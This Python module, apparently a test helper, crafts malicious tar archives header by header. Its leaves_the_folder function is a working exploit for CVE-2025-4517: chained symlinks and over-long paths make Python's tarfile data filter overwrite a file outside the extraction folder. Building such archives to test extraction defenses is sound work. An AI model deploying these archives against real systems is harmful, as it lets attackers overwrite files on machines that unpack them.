"""Builds hostile archives, header by header."""

import gzip
import io
import tarfile

OUTSIDE = "outside"  # The file beside the folder to unpack to that `leaves_the_folder` writes over

FIELDS = {"name": 0, "mode": 100, "size": 124, "magic": 257, "prefix": 345, "extended": 482}
"""The places of a header's fields."""


def header(name: str, type_: bytes = b"0", size: int = 0, target: str = "") -> bytes:
    """Returns a header of GNU's format."""
    member = tarfile.TarInfo(name)
    member.type, member.size, member.linkname = type_, size, target
    return bytes(member.tobuf(tarfile.GNU_FORMAT)[-tarfile.BLOCKSIZE :])


def changed(block: bytes, **fields: bytes) -> bytes:
    """Returns a header with some of its fields written over, and its checksum set right."""
    for field, content in fields.items():
        start = FIELDS[field]
        block = block[:start] + content + block[start + len(content) :]
    checksum = sum(block) - sum(block[148:156]) + 8 * ord(" ")
    return block[:148] + b"%06o\0 " % checksum + block[156:]


def padded(content: bytes) -> bytes:
    return content + bytes(-len(content) % tarfile.BLOCKSIZE)


def file(name: str, content: bytes = b"") -> bytes:
    return header(name, size=len(content)) + padded(content)


def pax(records: dict[str, str], type_: bytes = b"x") -> bytes:
    content = b""
    for key, value in records.items():
        body = f" {key}={value}\n".encode()
        length = len(body) + len(str(len(body) + len(str(len(body)))))
        content += str(length).encode() + body
    return header("pax", type_, len(content)) + padded(content)


def long_name(name: bytes) -> bytes:
    return header("././@LongLink", b"L", len(name)) + padded(name)


def packed(*members: bytes, end: bytes = bytes(2 * tarfile.BLOCKSIZE)) -> bytes:
    return gzip.compress(b"".join(members) + end, mtime=0)


def leaves_the_folder() -> bytes:
    """Returns an archive that tarfile's data filter unpacks so that a file named `OUTSIDE` beside the folder is written
    over, on a Python from before CVE-2025-4517 was mended.

    The true path of the last link is longer than a path may be. os.path.realpath then stops following links and finds
    the unresolved name inside the folder.
    """
    buffer = io.BytesIO()
    part, steps, path = "d" * 247, "abcdefghijklmnop", ""
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:

        def add(name: str, type_: bytes, target: str = "", content: bytes = b"") -> None:
            member = tarfile.TarInfo(name)
            member.type, member.linkname, member.size = type_, target, len(content)
            tar.addfile(member, io.BytesIO(content))

        for step in steps:
            add(f"{path}{part}", tarfile.DIRTYPE)
            add(f"{path}{step}", tarfile.SYMTYPE, part)
            path += f"{part}/"
        climb = "/".join(steps) + "/" + "l" * 254
        add(climb, tarfile.SYMTYPE, "../" * len(steps))
        add("escape", tarfile.SYMTYPE, f"{climb}/../{OUTSIDE}")
        add("again", tarfile.LNKTYPE, "escape")
        add("again", tarfile.REGTYPE, content=b"written over\n")
    return buffer.getvalue()
